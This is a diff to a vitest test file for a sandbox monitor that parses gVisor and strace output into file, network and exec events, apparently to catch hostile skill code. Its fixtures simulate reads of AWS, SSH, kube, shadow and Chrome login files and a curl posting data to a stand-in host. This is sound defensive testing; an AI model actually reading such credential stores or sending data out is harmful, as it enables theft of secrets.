@@ -1,7 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import { dnsQuestion, displayPath, normalizeEvents, recordsToEvents } from './events.ts';
 import { createHoneypot } from './honeypot.ts';
-import { parseGvisorTrace, parseStraceFiles, splitArgs, unquote } from './trace.ts';
+import { runnerArgv, sandboxArgv } from './backend.ts';
+import { parseGvisorTrace, parseStraceFiles, runnerExitStatus, splitArgs, unquote } from './trace.ts';
 
 const gvisorLog = [
   'I1123 07:20:40.043933    8717 strace.go:608] [   2:   2] python3 X openat(AT_FDCWD /home/jordan/src/s, 0x7f6e839e40b1 /home/jordan/.aws/credentials, O_RDONLY|O_CLOEXEC, 0o0) = 3 (0x3) (3.365µs)',
@@ -9,15 +10,18 @@ const gvisorLog = [
   'I1123 07:20:40.043933    8717 strace.go:608] [   2:   2] python3 X openat(AT_FDCWD /home/jordan/src/s, 0xa5f170 out.txt, O_WRONLY|O_CLOEXEC|O_CREAT|O_TRUNC, 0o666) = 4 (0x4) (316.5µs)',
   'I1123 07:20:40.043933    8717 strace.go:602] [   2:   2] python3 X rename(0xa5f170 out.txt, 0xa5f1a0 ../moved.txt) = 0 (0x0) (111.085µs)',
   'I1123 07:20:40.043933    8717 strace.go:605] [   2:   2] python3 X connect(0x3 socket:[3], 0x7f3da9d5c760 {Family: AF_INET, Addr: 203.0.113.5, Port: 443}, 0x10) = 0 (0x0) errno=113 (no route to host) (34.972µs)',
-  'I1123 07:20:40.043933    8717 strace.go:611] [   1:   1] bash X clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x7f9378111a10, 0x0) = 0 (0x0) errno=11 (try again) (776.954µs)',
+  'I1123 07:20:40.043933    8717 strace.go:611] [   3:   3] bash X clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x7f9378111a10, 0x0) = 0 (0x0) errno=11 (try again) (776.954µs)',
   'I1123 07:20:40.043933    8717 strace.go:605] [   5:   5] bash X execve(0x55b69c3fa840 /usr/bin/curl, 0x55b69c3fa8e0 ["curl", "-d", "a, \\"b\\"", "https://x.invalid/"], 0x55b69c3f6230 ["PWD=/tmp"]) = 0 (0x0) (820.078µs)',
+  // Thread group 1 is the sandbox's init: never the skill's.
+  'I1123 07:20:40.043933    8717 strace.go:608] [   1:   1] perl X openat(AT_FDCWD /home/jordan/src/s, 0x7f6e839e40b1 /home/jordan/.init-only, O_RDONLY|O_CLOEXEC, 0o0) = 3 (0x3) (3.365µs)',
+  'I1123 07:20:40.043933    8717 strace.go:599] [   5:   5] curl X exit_group(0x7) = 0 (0x0) (1.092µs)',
 ].join('\n');
 
 describe('parseGvisorTrace', () => {
   const records = parseGvisorTrace(gvisorLog, '/home/jordan/src/s');
 
   it('keeps exit lines only and makes relative paths absolute with the printed working directory', () => {
-    expect(records.map((record) => record.syscall)).toEqual(['openat', 'openat', 'rename', 'connect', 'clone', 'execve']);
+    expect(records.map((record) => record.syscall)).toEqual(['openat', 'openat', 'rename', 'connect', 'clone', 'execve', 'exit_group']);
     expect(records[1].paths).toEqual(['/home/jordan/src/s/out.txt']);
     expect(records[2].paths).toEqual(['/home/jordan/src/s/out.txt', '/home/jordan/src/moved.txt']);
   });
@@ -27,6 +31,11 @@ describe('parseGvisorTrace', () => {
     expect(records[4].errno).toBe('EAGAIN');
     expect(records[5].argv).toEqual(['curl', '-d', 'a, "b"', 'https://x.invalid/']);
   });
+
+  it('leaves out the sandbox init and reads the exit status of exit_group', () => {
+    expect(records.flatMap((record) => record.paths)).not.toContain('/home/jordan/.init-only');
+    expect(records[6]).toMatchObject({ pid: 5, syscall: 'exit_group', exitStatus: 7 });
+  });
 });
 
 describe('parseStraceFiles', () => {
@@ -34,7 +43,7 @@ describe('parseStraceFiles', () => {
   const files = [
     { pid: 100, text: '07:00:00.000001 execve("/usr/bin/bwrap", ["bwrap", "--unshare-all"], 0x1 /* 3 vars */) = 0\n07:00:00.000002 openat(AT_FDCWD</root>, "/root/.ssh/id_rsa", O_RDONLY) = 3</root/.ssh/id_rsa>\n' },
     { pid: 101, text: '07:00:00.000003 mkdir("/newroot/usr", 0755) = 0\n07:00:00.000004 openat(AT_FDCWD</>, "/etc/passwd", O_RDONLY) = 3</etc/passwd>\n' },
-    { pid: 102, text: '07:00:00.000004 openat(AT_FDCWD</>, "/before", O_RDONLY) = 3</before>\n07:00:00.000005 execve("/bin/bash", ["/bin/bash", "-c", "python3 x.py"], 0x1 /* 3 vars */) = 0\n07:00:00.000006 clone(child_stack=NULL, flags=SIGCHLD) = 3\n' },
+    { pid: 102, text: '07:00:00.000004 openat(AT_FDCWD</>, "/before", O_RDONLY) = 3</before>\n07:00:00.000005 execve("/bin/bash", ["/bin/bash", "-c", "python3 x.py"], 0x1 /* 3 vars */) = 0\n07:00:00.000006 clone(child_stack=NULL, flags=SIGCHLD) = 3\n07:00:00.000010 exit_group(2) = ?\n' },
     { pid: 103, text: '07:00:00.000007 openat(AT_FDCWD</home/jordan/src/s>, "notes.txt", O_RDONLY) = 3</home/jordan/src/s/notes.txt>\n07:00:00.000008 connect(3<socket:[1]>, {sa_family=AF_INET6, sin6_port=htons(80), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:db8::1", &sin6_addr), sin6_scope_id=0}, 28) = -1 ENETUNREACH (Network is unreachable)\n07:00:00.000009 unlink("gone.txt") = 0\n' },
   ];
   const records = parseStraceFiles(files, runner, '/home/jordan/src/s');
@@ -52,6 +61,16 @@ describe('parseStraceFiles', () => {
 
   it('finds nothing when the runner never started', () => {
     expect(parseStraceFiles(files.slice(0, 2), runner)).toEqual([]);
+  });
+
+  it('drops the sandbox init and reads the runner exit status', () => {
+    const init = sandboxArgv('python3 x.py');
+    const quoted = init.map((word) => JSON.stringify(word)).join(', ');
+    const initFile = { pid: 99, text: `07:00:00.000001 execve("${init[0]}", [${quoted}], 0x1 /* 3 vars */) = 0\n07:00:00.000002 openat(AT_FDCWD</>, "/home/jordan/.init-only", O_RDONLY) = 3</home/jordan/.init-only>\n07:00:00.000003 exit_group(2) = ?\n` };
+    const withInit = parseStraceFiles([initFile, ...files], runnerArgv('python3 x.py'), '/home/jordan/src/s', init);
+    expect(withInit.flatMap((record) => record.paths)).not.toContain('/home/jordan/.init-only');
+    expect(runnerExitStatus(withInit, runnerArgv('python3 x.py'))).toBe(2);
+    expect(runnerExitStatus(withInit.filter((record) => record.syscall !== 'exit_group'), runnerArgv('python3 x.py'))).toBeUndefined();
   });
 });
 
@@ -72,6 +91,17 @@ describe('recordsToEvents', () => {
     expect(events).toContainEqual({ kind: 'file-write', target: './out.txt', command: 'run', canary: false });
     expect(events).toContainEqual({ kind: 'connect', target: '203.0.113.5:443', command: 'run', canary: false, source: 'trace' });
     expect(displayPath('/etc/hosts', context)).toBe('/etc/hosts');
+  });
+
+  it('records reads of any credential kind, failed ones and those outside HOME too, but not other failed reads', () => {
+    const open = (path: string, errno?: string) => ({ pid: 1, syscall: 'openat', paths: [path], flags: 'O_RDONLY|O_CLOEXEC', result: errno ? -1 : 3, errno });
+    const events = recordsToEvents([open('/home/jordan/.kube/config', 'ENOENT'), open('/home/jordan/.config/google-chrome/Default/Login Data', 'ENOENT'), open('/etc/shadow', 'EACCES'), open('/home/jordan/notes.txt', 'ENOENT'), open('/home/jordan/src/s/.ssh/id_rsa')], context);
+    expect(events).toEqual([
+      { kind: 'file-read', target: '~/.kube/config', command: 'run', canary: false, missing: true },
+      { kind: 'file-read', target: '~/.config/google-chrome/Default/Login Data', command: 'run', canary: false, missing: true },
+      { kind: 'file-read', target: '/etc/shadow', command: 'run', canary: false, refused: true },
+      { kind: 'file-read', target: './.ssh/id_rsa', command: 'run', canary: false },
+    ]);
   });
 
   it('reports a command searched in PATH and not found as a failed exec', () => {
